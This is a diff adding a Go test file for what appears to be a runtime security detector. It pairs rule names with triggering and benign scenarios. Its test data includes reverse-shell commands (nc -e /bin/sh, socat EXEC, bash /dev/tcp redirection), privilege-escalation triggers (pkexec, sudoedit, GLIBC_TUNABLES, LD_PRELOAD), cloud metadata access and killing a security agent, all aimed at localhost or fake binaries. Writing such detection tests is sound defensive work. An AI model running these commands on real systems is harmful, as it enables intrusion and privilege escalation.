@@ -1,0 +1,243 @@
+// SPDX-License-Identifier: Apache-2.0
+
+package live
+
+import (
+	"net"
+	"strconv"
+	"syscall"
+)
+
+var privilegeRows = []row{
+	{"Set Setuid or Setgid bit",
+		func(s *scene) { s.act("chmod", s.file("tool"), "4755") },
+		func(s *scene) { s.act("chmod", s.file("tool"), "0755") }},
+	{"Sudo Potential Privilege Escalation",
+		func(s *scene) { s.run(s.fake("sudoedit"), "-s", `AAAA\`) },
+		func(s *scene) { s.run(s.fake("sudoedit"), "-s", "AAAA") }},
+	{"Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)",
+		func(s *scene) { s.run(s.fake("pkexec")) },
+		func(s *scene) { s.run(s.fake("pkexec"), "id") }},
+	{"Potential Local Privilege Escalation via Environment Variables Misuse",
+		func(s *scene) { s.env = []string{"GLIBC_TUNABLES=glibc.malloc.check=1"}; s.run(s.fake("su")) },
+		func(s *scene) { s.env = []string{"TUNABLES=1"}; s.run(s.fake("su")) }},
+	{"Preload library from a temporary directory",
+		func(s *scene) { s.env = []string{"LD_PRELOAD=/tmp/none.so"}; s.run(s.fake("app")) },
+		func(s *scene) { s.env = []string{"LD_PRELOAD=/usr/lib/none.so"}; s.run(s.fake("app")) }},
+	{"Detect release_agent File Container Escapes",
+		func(s *scene) { s.actOn(s.container(), "open", "w", s.file("release_agent")) },
+		func(s *scene) { s.act("open", "w", s.file("release_agent")) }},
+	{"Kernel helper program changed", // opened, never written
+		func(s *scene) { s.act("open", "w", "/proc/sys/kernel/core_pattern") },
+		func(s *scene) { s.act("open", "r", "/proc/sys/kernel/core_pattern") }},
+	{"Debugfs Launched in Privileged Container",
+		func(s *scene) { s.on(s.container(), s.fake("debugfs"), "x") },
+		func(s *scene) { s.run(s.fake("debugfs"), "x") }},
+	{"Mount Launched in Privileged Container",
+		func(s *scene) { s.on(s.container(), s.fake("mount"), "/dev/x", "/mnt") },
+		func(s *scene) { s.on(s.container(), s.fake("mount"), "-l") }},
+	{"Device or cgroup mounted in container",
+		func(s *scene) { s.actOn(s.container(), "mount", "cgroup", s.path("m"), "cgroup") },
+		func(s *scene) { s.actOn(s.container(), "mount", "tmpfs", s.path("m"), "tmpfs") }},
+	{"Privileged Container Device Access",
+		func(s *scene) { s.actOn(deviceStage(s), "open", "r", "/dev/sda") },
+		func(s *scene) { s.actOn(deviceStage(s), "open", "r", "/dev/other") }},
+	{"Change thread namespace",
+		func(s *scene) { s.act("setns") },
+		func(s *scene) { s.act("open", "r", "/proc/self/ns/uts") }},
+	{"Enter host namespaces from container",
+		func(s *scene) { s.on(s.container(), s.fake("nsenter"), "-t", "1", "-m", "sh") },
+		func(s *scene) { s.on(s.container(), s.fake("nsenter"), "-t", "1234", "-m", "sh") }},
+	{"Change namespace privileges via unshare",
+		func(s *scene) { s.on(s.container(), "/usr/bin/unshare", "-U", s.fake("x")) },
+		func(s *scene) { s.on(s.container(), "/usr/bin/unshare", "-u", s.fake("x")) }},
+	{"Container runtime socket opened in container",
+		func(s *scene) { s.actOn(s.container(), "connect-unix", listenUnix(s, "docker.sock")) },
+		func(s *scene) { s.actOn(s.container(), "connect-unix", listenUnix(s, "app.sock")) }},
+}
+
+func deviceStage(s *scene) stage {
+	st := s.container()
+	st.Tmpfs, st.Files = []string{"/dev"}, []string{"/dev/sda", "/dev/other"}
+	return st
+}
+
+func listenUnix(s *scene, name string) string {
+	path := s.path(name)
+	l, err := net.Listen("unix", path)
+	if err != nil {
+		s.t.Fatal(err)
+	}
+	s.t.Cleanup(func() { l.Close() })
+	return path
+}
+
+var kernelRows = []row{
+	{"Linux Kernel Module Injection Detected",
+		func(s *scene) { s.actOn(s.container(), "init-module") },
+		func(s *scene) { s.act("init-module") }},
+	{"Kernel module loaded by unexpected program",
+		func(s *scene) { s.act("init-module") },
+		func(s *scene) { s.actOn(s.container(), "init-module") }},
+	{"PTRACE attached to process",
+		func(s *scene) { s.act("ptrace-seize") },
+		func(s *scene) { s.act("ptrace-traceme") }},
+	{"PTRACE anti-debug attempt",
+		func(s *scene) { s.act("ptrace-traceme") },
+		func(s *scene) { s.act("ptrace-seize") }},
+	{"Memory of another process written",
+		func(s *scene) { s.act("vm-write") },
+		func(s *scene) { s.act("vm-read") }},
+	{"Process memory opened for writing through proc",
+		func(s *scene) { s.act("open", "rw", "/proc/self/mem") },
+		func(s *scene) { s.act("open", "r", "/proc/self/mem") }},
+	{"io_uring set up by unexpected program",
+		func(s *scene) { s.act("io-uring", "4") },
+		func(s *scene) { s.act("io-uring", "0") }},
+	{"Unprivileged Delegation of Page Faults Handling to a Userspace Process",
+		func(s *scene) { s.uid = 65534; s.act("userfaultfd") },
+		func(s *scene) { s.act("userfaultfd") }},
+	{"BPF Program Not Profiled",
+		func(s *scene) { s.act("bpf-prog") },
+		func(s *scene) { s.act("bpf-map") }},
+	{"Signal sent to security agent",
+		func(s *scene) { killAgent(s, syscall.SIGKILL) },
+		func(s *scene) { killAgent(s, syscall.SIGTERM) }},
+}
+
+// killAgent sends a signal to a process that bears the name of an agent.
+func killAgent(s *scene, sig syscall.Signal) {
+	path := s.actor("auditd")
+	agent := s.command(path, []string{path, "sleep", "20s"})
+	if err := agent.Start(); err != nil {
+		s.t.Fatal(err)
+	}
+	s.act("kill", strconv.Itoa(int(sig)), strconv.Itoa(agent.Process.Pid))
+	_ = agent.Wait()
+}
+
+const (
+	publicAddr   = "203.0.113.7"
+	metadataAddr = "169.254.169.254"
+)
+
+// apart is a network of its own in which an address lies.
+func apart(st stage, addr string) stage {
+	st.Net, st.Addrs = true, []string{addr}
+	return st
+}
+
+var networkRows = []row{
+	{"Netcat Remote Code Execution in Container",
+		func(s *scene) { s.on(s.container(), s.fake("nc"), "-nve", "/bin/sh", "127.0.0.1", "1") },
+		func(s *scene) { s.on(s.container(), s.fake("nc"), "-zv", "cache.example", "80") }},
+	{"Netcat/Socat Remote Code Execution on Host",
+		func(s *scene) { s.run(s.fake("socat"), "TCP:127.0.0.1:1", "EXEC:/bin/sh") },
+		func(s *scene) { s.run(s.fake("socat"), "TCP:127.0.0.1:1", "STDOUT") }},
+	{"Netcat/Socat Remote Code Execution on Host",
+		func(s *scene) { s.run(s.fake("nc"), "-e/bin/sh", "127.0.0.1", "1") },
+		func(s *scene) { s.on(s.container(), s.fake("nc"), "-e", "/bin/sh", "127.0.0.1", "1") }},
+	{"Redirect STDOUT/STDIN to Network Connection in Container",
+		func(s *scene) { s.actOn(s.container(), "connect-dup", "0") },
+		func(s *scene) { s.actOn(s.container(), "connect-dup", "10") }},
+	{"Shell Standard Streams on Network Connection", // inherited
+		func(s *scene) { s.act("connect-exec", "/bin/sh", "/dev/null") },
+		func(s *scene) { s.act("spawn", "/bin/sh", "/dev/null") }},
+	{"Shell Standard Streams on Network Connection", // copied by the shell itself
+		func(s *scene) {
+			s.run("/bin/bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/"+listenTCP(s)+"; exec <&3 # "+s.mark)
+		},
+		func(s *scene) { s.run("/bin/bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/"+listenTCP(s)+" # "+s.mark) }},
+	{"Shell opens network connection by itself",
+		func(s *scene) { s.run("/bin/sh", "-c", "true # /dev/tcp/192.0.2.1/80 "+s.mark) },
+		func(s *scene) { s.run("/bin/sh", "-c", "true # /dev/tcp "+s.mark) }},
+	{"Packet socket created in container",
+		func(s *scene) { s.actOn(s.container(), "socket", "17") },
+		func(s *scene) { s.actOn(s.container(), "socket", "2") }},
+	{"Disallowed SSH Connection Non Standard Port",
+		func(s *scene) { s.run(s.actor("ssh"), "connect", "127.0.0.1:0") },
+		func(s *scene) { s.on(apart(stage{}, publicAddr), s.actor("ssh"), "connect", publicAddr+":22") }},
+	{"Contact K8S API Server From Container",
+		func(s *scene) { s.inCluster(); s.actOn(apart(s.container(), publicAddr), "connect", publicAddr+":443") },
+		func(s *scene) { s.inCluster(); s.actOn(apart(s.container(), publicAddr), "connect", publicAddr+":444") }},
+	{"Contact cloud metadata service from container",
+		func(s *scene) { s.actOn(apart(s.container(), metadataAddr), "connect", metadataAddr+":80") },
+		func(s *scene) { s.actOn(apart(s.container(), "169.254.1.1"), "connect", "169.254.1.1:80") }},
+	{"Contact cloud metadata service by hand",
+		func(s *scene) { s.on(apart(stage{}, metadataAddr), s.actor("curl"), "connect", metadataAddr+":80") },
+		func(s *scene) { s.on(apart(stage{}, metadataAddr), s.actor("agent"), "connect", metadataAddr+":80") }},
+	{"Detect outbound connections to common miner pool ports",
+		func(s *scene) { s.actOn(apart(stage{}, publicAddr), "connect", publicAddr+":3333") },
+		func(s *scene) { s.actOn(apart(stage{}, publicAddr), "connect", "127.0.0.1:3333") }},
+	{"Detect crypto miners using the Stratum protocol",
+		func(s *scene) { s.run(s.fake("worker"), "-o", "stratum+tcp://pool.example:3333") },
+		func(s *scene) { s.run(s.fake("worker"), "-o", "http://pool.example:3333") }},
+	{"Known Cryptominer Process Executed",
+		func(s *scene) { s.run(s.fake("minerd")) },
+		func(s *scene) { s.run(s.fake("miner-docs")) }},
+	{"Launch Suspicious Network Tool in Container",
+		func(s *scene) { s.on(s.container(), s.fake("nmap"), "10.0.0.0/8") },
+		func(s *scene) { s.run(s.fake("nmap"), "10.0.0.0/8") }},
+	{"Launch Ingress Remote File Copy Tools in Container",
+		func(s *scene) { s.on(s.oldContainer(), s.fake("wget"), "http://x.example/") },
+		func(s *scene) { s.on(s.oldContainer(), s.fake("curl"), "http://x.example/") }},
+	{"Unexpected outbound connection destination",
+		func(s *scene) { s.actOn(apart(stage{}, publicAddr), "connect", publicAddr+":8080") },
+		func(s *scene) { s.act("connect", "127.0.0.1:0") }},
+}
+
+// inCluster gives the next program the environment of a pod.
+func (s *scene) inCluster() {
+	s.env = append(s.env, "KUBERNETES_SERVICE_HOST="+publicAddr, "KUBERNETES_SERVICE_PORT=443")
+}
+
+func listenTCP(s *scene) (port string) {
+	l, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		s.t.Fatal(err)
+	}
+	s.t.Cleanup(func() { l.Close() })
+	return strconv.Itoa(l.Addr().(*net.TCPAddr).Port)
+}
+
+var shellRows = []row{
+	{"Fileless execution via memfd_create",
+		func(s *scene) { s.act("memfd-exec", "/bin/true") },
+		func(s *scene) { s.act("spawn", "/bin/true") }},
+	{"Execution from /dev/shm",
+		func(s *scene) { s.actOn(over("/dev", "/dev/shm/x"), "copy-exec", "/bin/true", "/dev/shm/"+s.mark) },
+		func(s *scene) { s.run(s.fake("dev/shm/x")) }},
+	{"Program posing as a kernel thread",
+		func(s *scene) { s.run(s.fake("kworker")) },
+		func(s *scene) { s.run(s.fake("worker")) }},
+	{"Run shell untrusted",
+		func(s *scene) { s.run(s.actor("nginx"), "spawn", "/bin/sh", "-c", "true "+s.mark) },
+		func(s *scene) { s.run(s.actor("myapp"), "spawn", "/bin/sh", "-c", "true "+s.mark) }},
+	{"DB program spawned process",
+		func(s *scene) { s.run(s.actor("mysqld"), "spawn", s.fake("whoami")) },
+		func(s *scene) { s.run(s.actor("myapp"), "spawn", s.fake("whoami")) }},
+	{"System user interactive",
+		func(s *scene) { s.tty, s.uid = true, 1; s.run("/bin/sh", "/dev/null", s.mark) },
+		func(s *scene) { s.uid = 1; s.run("/bin/sh", "/dev/null", s.mark) }},
+	{"Terminal shell in container",
+		func(s *scene) { s.tty = true; s.on(s.container(), "/bin/sh", "/dev/null", s.mark) },
+		func(s *scene) { s.on(s.container(), "/bin/sh", "/dev/null", s.mark) }},
+	{"Launch Package Management Process in Container",
+		func(s *scene) { s.on(s.container(), s.fake("apt-get"), "install", "nmap") },
+		func(s *scene) { s.run(s.fake("apt-get"), "install", "nmap") }},
+	{"Kubernetes Client Tool Launched in Container",
+		func(s *scene) { s.on(s.container(), s.fake("kubectl"), "get", "secrets") },
+		func(s *scene) { s.run(s.fake("kubectl"), "get", "secrets") }},
+	{"Basic Interactive Reconnaissance",
+		func(s *scene) { s.tty = true; s.on(s.container(), s.fake("whoami")) },
+		func(s *scene) { s.on(s.container(), s.fake("whoami")) }},
+	{"Container Drift Detected (chmod)",
+		func(s *scene) { s.actOn(s.container(), "chmod", s.file("tool"), "0755") },
+		func(s *scene) { s.actOn(s.container(), "chmod", s.file("tool"), "0644") }},
+	{"Container Drift Detected (open+create)",
+		func(s *scene) { s.actOn(s.container(), "open", "wcx", s.path("tool")) },
+		func(s *scene) { s.actOn(s.container(), "open", "wc", s.path("tool")) }},
+	{"Drop and execute new binary in container",
+		func(s *scene) { s.actOn(s.container(), "overlay-exec", "upper", s.path("o")) },
+		func(s *scene) { s.actOn(s.container(), "overlay-exec", "lower", s.path("o")) }},
+}
